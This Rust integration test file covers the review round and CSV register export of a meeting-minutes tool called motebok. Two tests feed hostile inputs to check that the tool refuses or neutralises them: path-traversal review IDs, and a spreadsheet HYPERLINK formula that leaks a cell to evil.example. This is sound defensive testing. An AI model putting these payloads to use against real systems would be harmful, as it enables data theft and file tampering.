//! `motebok review send|open|reply|import` and `motebok register` run as real processes: the
//! whole review round between two databases, the register CSV as a spreadsheet reads it, and
//! refusals (exit 1, the reason, nothing written).

mod cli_support;

use cli_support::{motebok, text};
use std::path::Path;
use std::process::Output;

const EXAMPLE: &str = include_str!("../assets/demo/2024-M4.motebok.json");

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "exit {:?}: {}",
        out.status.code(),
        text(&out.stderr)
    );
    text(&out.stdout)
}

fn refused(out: &Output) -> String {
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    text(&out.stderr)
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// The example with item 1's decision set to `decision`.
fn example_with_decision(decision: &str) -> String {
    let mut v: serde_json::Value = serde_json::from_str(EXAMPLE).unwrap();
    v["meeting"]["items"][0]["decision"] = decision.into();
    serde_json::to_string_pretty(&v).unwrap()
}

#[test]
fn the_review_round_runs_between_two_databases_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let secretary = dir.path().join("sekretær.sqlite3");
    let leader = dir.path().join("leder.sqlite3");
    let package = dir.path().join("m.motebok.json");
    std::fs::write(&package, EXAMPLE).unwrap();
    ok(&motebok(&secretary, &["import", package.to_str().unwrap()]));

    let review = dir.path().join("2024-M4.motebok-review.json");
    let out = ok(&motebok(
        &secretary,
        &["review", "send", "2024/M4", "-o", review.to_str().unwrap()],
    ));
    assert!(out.contains("wrote"), "{out}");
    let review_text = std::fs::read_to_string(&review).unwrap();
    assert!(review_text.contains("\"format\": \"motebok/review\""));

    let out = ok(&motebok(
        &leader,
        &["review", "open", review.to_str().unwrap()],
    ));
    assert!(out.starts_with("opened review 2024-M4-"), "{out}");
    assert!(out.contains("Samarbeidsrådet for ROR-IKT 2024/M4"), "{out}");
    let again = ok(&motebok(
        &leader,
        &["review", "open", review.to_str().unwrap()],
    ));
    assert!(again.starts_with("already had review"), "{again}");
    // Kept as a review, not as an editable meeting.
    assert_eq!(ok(&motebok(&leader, &["list"])).trim(), "");

    // A reply that cannot be written is not recorded as sent.
    let err = refused(&motebok(
        &leader,
        &[
            "review",
            "reply",
            "2024/M4",
            "-o",
            dir.path().join("mangler/svar.json").to_str().unwrap(),
        ],
    ));
    assert!(err.contains("cannot write"), "{err}");
    let received = motebok::store::Store::open(&leader)
        .unwrap()
        .received_reviews()
        .unwrap();
    assert_eq!(received.len(), 1);
    assert_eq!(received[0].decision, None, "no reply recorded");

    let reply = dir.path().join("svar.motebok-reply.json");
    let out = motebok(
        &leader,
        &[
            "review",
            "reply",
            "2024/M4",
            "-o",
            reply.to_str().unwrap(),
            "--decision",
            "changes_requested",
            "--by",
            "Aasen, Marianne",
            "--comment",
            "4: Vedtaket bør nevne fristen.",
            "--comment",
            "Godt referat.",
        ],
    );
    ok(&out);
    let reply_text = std::fs::read_to_string(&reply).unwrap();
    assert!(reply_text.contains("\"decision\": \"changes_requested\""));
    assert!(reply_text.contains("Vedtaket bør nevne fristen."));

    let out = ok(&motebok(
        &secretary,
        &["review", "import", reply.to_str().unwrap()],
    ));
    assert!(
        out.contains("Aasen, Marianne") && out.contains("changes_requested"),
        "{out}"
    );
    assert!(out.contains("2 comment(s)"), "{out}");
    // The same reply twice is refused, and says why.
    let err = refused(&motebok(
        &secretary,
        &["review", "import", reply.to_str().unwrap()],
    ));
    assert!(err.contains("motebok:"), "{err}");
}

#[test]
fn a_hostile_review_package_is_refused_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let secretary = dir.path().join("s.sqlite3");
    let package = dir.path().join("m.motebok.json");
    std::fs::write(&package, EXAMPLE).unwrap();
    ok(&motebok(&secretary, &["import", package.to_str().unwrap()]));
    let review = dir.path().join("r.json");
    ok(&motebok(
        &secretary,
        &["review", "send", "2024/M4", "-o", review.to_str().unwrap()],
    ));
    let good = std::fs::read_to_string(&review).unwrap();
    let id_start = good.find("\"review_id\": \"").unwrap() + 14;
    let id_end = id_start + good[id_start..].find('"').unwrap();

    let inbox = dir.path().join("innboks");
    std::fs::create_dir(&inbox).unwrap();
    let leader = inbox.join("leder.sqlite3");
    drop(motebok::store::Store::open(&leader).unwrap());
    let before = files_in(&inbox);
    for (i, id) in [
        "../../../../tmp/motebok-pwned",
        "/tmp/motebok-pwned",
        "C:\\\\Users\\\\x",
        "\\\\\\\\server\\\\share\\\\x",
    ]
    .iter()
    .enumerate()
    {
        let hostile = format!("{}{id}{}", &good[..id_start], &good[id_end..]);
        let path = dir.path().join(format!("hostile-{i}.json"));
        std::fs::write(&path, hostile).unwrap();
        let err = refused(&motebok(
            &leader,
            &["review", "open", path.to_str().unwrap()],
        ));
        assert!(err.contains("review_id:"), "{err}");
        assert!(err.contains("is not a review id"), "{err}");
    }
    assert_eq!(
        files_in(&inbox),
        before,
        "nothing written beside the database"
    );
    assert!(!Path::new("/tmp/motebok-pwned.pdf").exists());
    assert!(!Path::new("/tmp/motebok-pwned").exists());
    let err = refused(&motebok(
        &leader,
        &[
            "review",
            "reply",
            "2024/M4",
            "-o",
            inbox.join("svar.json").to_str().unwrap(),
        ],
    ));
    assert!(err.contains("no review of 2024/M4"), "{err}");
    assert_eq!(files_in(&inbox), before);
}

#[test]
fn the_register_csv_is_safe_for_spreadsheets() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("m.sqlite3");
    let package = dir.path().join("m.motebok.json");
    std::fs::write(
        &package,
        example_with_decision("=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Klikk\")"),
    )
    .unwrap();
    ok(&motebok(&db, &["import", package.to_str().unwrap()]));

    let csv_path = dir.path().join("vedtak.csv");
    let out = ok(&motebok(
        &db,
        &[
            "register",
            "-o",
            csv_path.to_str().unwrap(),
            "--year",
            "2024",
        ],
    ));
    assert!(out.contains("decision(s)"), "{out}");
    let bytes = std::fs::read(&csv_path).unwrap();
    assert!(bytes.starts_with(b"\xef\xbb\xbf"), "UTF-8 byte order mark");
    let csv = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(
        csv.starts_with("Dato;Organ;Saksnummer;Tittel;Sakstype;Utfall;Vedtak;"),
        "{csv}"
    );
    // æøå as UTF-8 bytes: "Samarbeidsrådet" has å = C3 A5.
    let needle = "Samarbeidsr\u{e5}det".as_bytes();
    assert!(needle.windows(2).any(|w| w == [0xc3, 0xa5]));
    assert!(bytes.windows(needle.len()).any(|w| w == needle));
    // The formula is text: quoted, with a leading apostrophe, quotes doubled.
    assert!(
        csv.contains(";\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1;\"\"Klikk\"\")\";"),
        "{csv}"
    );
    assert!(!csv.contains(";=HYPERLINK"), "{csv}");
    for line in csv.split("\r\n").filter(|l| !l.is_empty()) {
        assert!(!line.starts_with(['=', '+', '-', '@']), "{line}");
    }

    // A refused register (unknown body) leaves the old file as it was.
    let err = refused(&motebok(
        &db,
        &[
            "register",
            "-o",
            csv_path.to_str().unwrap(),
            "--body",
            "Finnes ikke",
        ],
    ));
    assert!(err.contains("no body «Finnes ikke»"), "{err}");
    assert_eq!(std::fs::read(&csv_path).unwrap(), bytes);
    // An unwritable place: exit 1 with the reason, no file, no temporary file left.
    let err = refused(&motebok(
        &db,
        &[
            "register",
            "-o",
            dir.path().join("mangler/x.csv").to_str().unwrap(),
        ],
    ));
    assert!(err.contains("cannot write"), "{err}");
    assert!(!dir.path().join("mangler").exists());
    assert!(
        files_in(dir.path())
            .iter()
            .all(|n| !n.contains("motebok-tmp")),
        "{:?}",
        files_in(dir.path())
    );
    let pdf = dir.path().join("vedtak.pdf");
    ok(&motebok(
        &db,
        &["register", "-o", pdf.to_str().unwrap(), "--public"],
    ));
    assert!(std::fs::read(&pdf).unwrap().starts_with(b"%PDF-"));
}

#[test]
fn outputs_are_written_whole_or_not_at_all() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("m.sqlite3");
    let package = dir.path().join("m.motebok.json");
    std::fs::write(&package, EXAMPLE).unwrap();
    ok(&motebok(&db, &["import", package.to_str().unwrap()]));
    // The output's place is a folder: refused, the folder untouched, no temporary file left.
    let target = dir.path().join("ut");
    std::fs::create_dir(&target).unwrap();
    for args in [
        vec!["export-package", "2024/M4", "-o"],
        vec!["render", "minutes", "2024/M4", "-o"],
        vec!["review", "send", "2024/M4", "-o"],
        vec!["register", "-o"],
    ] {
        let mut args = args.clone();
        args.push(target.to_str().unwrap());
        let err = refused(&motebok(&db, &args));
        assert!(err.contains("cannot write"), "{args:?}: {err}");
        assert!(target.is_dir());
        assert!(
            files_in(dir.path())
                .iter()
                .all(|n| !n.contains("motebok-tmp")),
            "{args:?}: {:?}",
            files_in(dir.path())
        );
    }
}
